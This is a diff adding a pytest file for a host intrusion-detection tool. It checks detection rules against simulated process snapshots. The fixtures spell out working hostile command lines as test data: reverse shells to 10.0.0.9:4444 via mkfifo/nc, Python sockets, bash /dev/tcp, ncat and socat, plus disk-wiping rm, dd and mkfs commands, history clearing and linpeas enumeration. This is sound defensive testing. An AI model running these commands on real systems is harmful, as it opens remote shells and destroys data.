@@ -1,0 +1,222 @@
+"""The core pack: each behaviour rule fires on its technique written several ways, and
+stays quiet on the benign look-alike next to it; the pack is listed by the API."""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+from datetime import timedelta
+from typing import Any
+
+import pytest
+
+from kefal_lite.detect import corpus, packs
+from kefal_lite.detect.builtins import BUILTINS
+from kefal_lite.detect.engine import Catalog, evaluate
+from kefal_lite.detect.model import SEVERITY_RANK, Finding
+from kefal_lite.detect.state import HostState
+from kefal_lite.snapshot import Snapshot
+from tests.builders import BASE_USERS, proc, snap
+from tests.test_engine import _for, learned, persisting
+
+CATALOG = Catalog((*BUILTINS, *packs.active()))
+
+
+def run(snapshots: list[Snapshot]) -> list[Finding]:
+    state, findings = HostState(), []
+    for s in snapshots:
+        findings, state = evaluate(s, state, CATALOG, s.timestamp + timedelta(seconds=2))
+    return findings
+
+
+def conn(process: str, pid: int, address: str, port: int) -> dict[str, Any]:
+    return {"remote_address": address, "remote_port": port, "local_port": 51000,
+            "process": process, "pid": pid, "state": "ESTABLISHED"}  # fmt: skip
+
+
+def one(*procs: dict[str, Any], **fields: Any) -> Callable[[], list[Snapshot]]:
+    return lambda: [snap(0, add_processes=list(procs), **fields)]
+
+
+NGINX = 420  # pid of nginx in the base host
+PY_SHELL = ("python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"10.0.0.9\","
+            "4444));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'")  # fmt: skip
+USERS_NOLOGIN = [*BASE_USERS, {"name": "backup", "uid": 34, "groups": ["backup"],
+                               "shell": "/usr/sbin/nologin"}]  # fmt: skip
+USERS_SHELL = [*BASE_USERS, {"name": "backup", "uid": 34, "groups": ["backup"],
+                             "shell": "/bin/bash"}]  # fmt: skip
+
+# rule -> list of (violating sequences), subject, severity, near-miss sequences
+Case = tuple[list[Callable[[], list[Snapshot]]], str, str, list[Callable[[], list[Snapshot]]]]
+CASES: dict[str, Case] = {
+    "interpreter_outbound_connection": (
+        [one(proc("nc", "www-data", pid=901), connections=[conn("nc", 901, "203.0.113.7", 443)]),
+         # renamed: the process is a python, whatever the script calls itself
+         one(proc("python3.12", "www-data", pid=902, cmdline="python3 /tmp/x"),
+             connections=[conn("python3.12", 902, "203.0.113.7", 4444)]),
+         # bash -i via exec redirects holds the socket itself
+         one(proc("bash", "www-data", pid=903, cmdline="bash"),
+             connections=[conn("bash", 903, "198.51.100.2", 8080)])],
+        "process:*", "high",
+        [one(proc("python3", "alice", pid=904), connections=[conn("python3", 904, "10.0.0.5", 5432)]),
+         one(proc("bash", "alice", pid=905), connections=[conn("bash", 905, "127.0.0.1", 4444)]),
+         one(proc("curl", "alice", pid=906), connections=[conn("curl", 906, "203.0.113.7", 4444)])],
+    ),
+    "service_spawned_shell": (
+        [one(proc("sh", "www-data", pid=910, ppid=NGINX, cmdline="sh -c id")),
+         one(proc("php-fpm8.2", "www-data", pid=911), proc("python3", "www-data", pid=912, ppid=911))],
+        "process:*", "high",
+        [one(proc("sh", "alice", pid=913, ppid=400, cmdline="sh -c ls")),  # under sshd: a login
+         one(proc("nginx", "www-data", pid=914, ppid=NGINX))],
+    ),
+    "exe_in_writable_or_hidden_path": (
+        [one(proc("kdevtmpfsi", "www-data", pid=920, exe="/var/tmp/.ICE-unix/kdevtmpfsi")),
+         one(proc("updater", "alice", pid=921, exe="/home/alice/.config/.u/updater")),
+         one(proc("3", "www-data", pid=922, exe="/memfd:x (deleted)"))],
+        "process:*", "high",
+        [one(proc("node", "alice", pid=923, exe="/home/alice/.vscode-server/bin/abc/node")),
+         one(proc("cargo", "alice", pid=924, exe="/home/alice/.cargo/bin/cargo"))],
+    ),
+    "daemon_name_mismatch": (
+        [one(proc("sshd", "root", pid=930, exe="/usr/local/bin/xmr")),
+         one(proc("kworker/0:3", "root", pid=931, exe="/usr/bin/kw"))],
+        "process:*", "high",
+        [one(proc("systemd-udevd", "root", pid=932, exe="/usr/bin/udevadm")),
+         one(proc("crond", "root", pid=933, exe="/bin/busybox")),
+         one(proc("systemd-journal", "root", pid=934, exe="/usr/lib/systemd/systemd-journald"))],
+    ),
+    "mining_by_behaviour": (
+        # renamed, fed from a config file: nothing in the name or the command line
+        [lambda: [snap(i, add_processes=[proc("kswapd1", "www-data", pid=940, cpu=390.0,
+                                              exe="/usr/bin/kswapd1", cmdline="kswapd1 -c cfg.json")],
+                       connections=[conn("kswapd1", 940, "198.51.100.8", 14444)]) for i in range(2)],
+         one(proc("sysupdate", "www-data", pid=941, cmdline="./sysupdate -o stratum+ssl://p.example:443"))],
+        "process:*", "critical",
+        [lambda: [snap(i, add_processes=[proc("ffmpeg", "alice", pid=942, cpu=390.0)],
+                       connections=[conn("ffmpeg", 942, "198.51.100.8", 443)]) for i in range(2)],
+         lambda: [snap(0, add_processes=[proc("miner", "alice", pid=943, cpu=390.0)],
+                       connections=[conn("miner", 943, "198.51.100.8", 14444)])]],  # one snapshot
+    ),
+    "reverse_shell_variant": (
+        [one(proc("sh", "www-data", pid=950,
+                  cmdline="sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.9 4444 >/tmp/f")),
+         one(proc("python3", "www-data", pid=951, cmdline=PY_SHELL)),
+         one(proc("bash", "www-data", pid=952, cmdline="bash -c exec 5<>/dev/tcp/10.0.0.9/4444;cat <&5|bash >&5")),
+         one(proc("ncat", "www-data", pid=953, cmdline="ncat 10.0.0.9 4444 --sh-exec 'bash -i'")),
+         one(proc("socat", "www-data", pid=954, cmdline="socat tcp-connect:10.0.0.9:4444 exec:/bin/bash,pty"))],
+        "process:*", "critical",
+        [one(proc("mkfifo", "alice", pid=955, cmdline="mkfifo /run/user/1000/pipe")),
+         one(proc("python3", "alice", pid=956, cmdline="python3 -m http.server --bind 127.0.0.1")),
+         one(proc("socat", "alice", pid=957, cmdline="socat tcp-listen:8080 tcp:localhost:80"))],
+    ),
+    "shell_upgrade": (
+        [one(proc("python3", "www-data", pid=960, cmdline="python3 -c import pty;pty.spawn(\"/bin/bash\")")),
+         one(proc("script", "www-data", pid=961, cmdline="script -qc /bin/bash /dev/null")),
+         one(proc("stty", "alice", pid=962, cmdline="stty raw -echo"))],
+        "process:*", "high",
+        [one(proc("script", "alice", pid=963, cmdline="script session.log")),
+         one(proc("stty", "alice", pid=964, cmdline="stty -echo"))],
+    ),
+    "destructive_command": (
+        [one(proc("rm", "root", pid=970, cmdline="rm -rf --no-preserve-root /")),
+         one(proc("sh", "root", pid=971, cmdline="sh -c sleep 1; rm -fr /etc")),
+         one(proc("dd", "root", pid=972, cmdline="dd if=/dev/zero of=/dev/sda bs=1M")),
+         one(proc("mkfs.ext4", "root", pid=973, cmdline="mkfs.ext4 -F /dev/nvme0n1"))],
+        "process:*", "critical",
+        [one(proc("rm", "alice", pid=974, cmdline="rm -rf /home/alice/build")),
+         one(proc("dd", "alice", pid=975, cmdline="dd if=/dev/sda of=/backup/disk.img")),
+         one(proc("rm", "root", pid=976, cmdline="rm -f /etc/nginx/sites-enabled/default"))],
+    ),
+    "history_tampering": (
+        [one(proc("bash", "www-data", pid=980, cmdline="bash -c unset HISTFILE; id")),
+         one(proc("bash", "root", pid=981, cmdline="bash -c history -c"))],
+        "process:*", "high",
+        [one(proc("bash", "alice", pid=982, cmdline="bash -c history | tail"))],
+    ),
+    "privesc_enumeration": (
+        [one(proc("sh", "www-data", pid=990, cmdline="sh /dev/shm/linpeas.sh -a")),
+         one(proc("pspy64", "www-data", pid=991, exe="/usr/bin/pspy64")),
+         one(proc("find", "www-data", pid=992, cmdline="find / -perm -u=s -type f")),
+         one(proc("getcap", "www-data", pid=993, cmdline="getcap -r / 2>/dev/null"))],
+        "process:*", "high",
+        [one(proc("find", "alice", pid=994, cmdline="find . -name '*.py'")),
+         one(proc("less", "alice", pid=995, cmdline="less tables.sh"))],
+    ),
+    "account_created": (
+        [lambda: [*learned(), *persisting(3, users=[*BASE_USERS, {"name": "svc", "uid": 1002, "shell": "/bin/bash"}])]],
+        "user:svc", "medium",
+        # a package creating a nologin system account is a notice
+        [lambda: [*learned(), *persisting(3, users=[*BASE_USERS, {"name": "_pg", "uid": 120, "shell": "/usr/sbin/nologin"}])]],
+    ),
+    "account_login_shell": (
+        [lambda: [*learned(users=USERS_NOLOGIN), *persisting(3, users=USERS_SHELL)]],
+        "user:backup", "critical",
+        [lambda: [*learned(users=USERS_NOLOGIN), *persisting(3, users=USERS_NOLOGIN)]],
+    ),
+    "account_privileged": (
+        [lambda: [*learned(), *persisting(3, users=[*BASE_USERS[:2], {**BASE_USERS[2], "groups": ["alice", "sudo", "docker"]}])],
+         lambda: [*learned(), *persisting(3, users=[*BASE_USERS, {"name": "x", "uid": 0, "shell": "/bin/sh"}])]],
+        "user:*", "high",
+        [lambda: [*learned(), *persisting(3, users=[*BASE_USERS[:2], {**BASE_USERS[2], "groups": ["alice", "sudo", "video"]}])]],
+    ),
+    "defence_daemon_stopped": (
+        [lambda: [snap(0, add_processes=[proc("rsyslogd", pid=700)]), snap(1)],
+         lambda: [snap(0, add_processes=[proc("falcon-sensor", pid=701)]), snap(1)]],
+        "process:*", "high",
+        [lambda: [snap(0, add_processes=[proc("rsyslogd", pid=700)]),
+                  snap(1, add_processes=[proc("rsyslogd", pid=702)])]],
+    ),
+}  # fmt: skip
+
+
+def test_every_pack_rule_has_a_case_and_an_attack_id() -> None:
+    assert set(CASES) == {inv.id for inv in packs.PACKS["core"]}
+    for inv in packs.PACKS["core"]:
+        assert inv.source == "pack" and inv.attack and inv.attack.startswith("T")
+        assert inv.metadata["pack"] == "core" and inv.metadata["description"]
+    assert len(BUILTINS) == 32 and not {i.id for i in BUILTINS} & set(CASES)
+
+
+@pytest.mark.parametrize("rule", sorted(CASES))
+def test_pack_rule_fires_on_every_variant(rule: str) -> None:
+    variants, subject, severity, _ = CASES[rule]
+    for n, variant in enumerate(variants):
+        hits = _for(rule, run(variant()))
+        assert hits, (rule, n)
+        assert hits[0].severity == severity or SEVERITY_RANK[hits[0].severity] > SEVERITY_RANK[
+            severity], (rule, n, hits[0].severity)  # fmt: skip
+        assert subject == "user:*" or subject == "process:*" or hits[0].subject == subject
+        assert hits[0].evidence and hits[0].title
+
+
+@pytest.mark.parametrize("rule", sorted(CASES))
+def test_pack_rule_stays_quiet_on_near_misses(rule: str) -> None:
+    for n, near in enumerate(CASES[rule][3]):
+        hits = [f for f in _for(rule, run(near())) if f.severity != "low"]
+        assert hits == [], (rule, n, hits)
+
+
+def test_mkfifo_reverse_shell_is_one_incident_with_every_rule() -> None:
+    nc = proc("nc", "www-data", pid=1001, ppid=NGINX, cmdline="nc 10.0.0.9 4444")
+    findings = run([snap(0, add_processes=[nc], connections=[conn("nc", 1001, "10.0.0.9", 4444)])])
+    [hit] = [f for f in findings if f.subject == "process:nc"]
+    assert hit.severity == "high"
+    rules = {r["invariant_id"] for r in hit.evidence["rules"]}
+    assert rules == {"interpreter_outbound_connection", "service_spawned_shell"}
+    assert hit.evidence["parent"] == {"name": "nginx", "pid": NGINX, "user": "www-data"}
+
+
+def test_guarded_processes_extend_the_defence_list() -> None:
+    catalog = Catalog((*BUILTINS, *packs.active(guarded=["acme-edr"])))
+    state = HostState()
+    for s in (snap(0, add_processes=[proc("acme-edr", pid=800)]), snap(1)):
+        findings, state = evaluate(s, state, catalog, s.timestamp)
+    assert [f.subject for f in _for("defence_daemon_stopped", findings)] == ["process:acme-edr"]
+
+
+def test_benign_corpus_stays_quiet_with_the_pack() -> None:
+    for name, snapshots in corpus.load().items():
+        state = HostState()
+        for s in snapshots:
+            findings, state = evaluate(s, state, CATALOG, s.timestamp + timedelta(seconds=3))
+            loud = [f for f in findings if SEVERITY_RANK[f.severity] >= SEVERITY_RANK["medium"]]
+            assert loud == [], (name, loud)
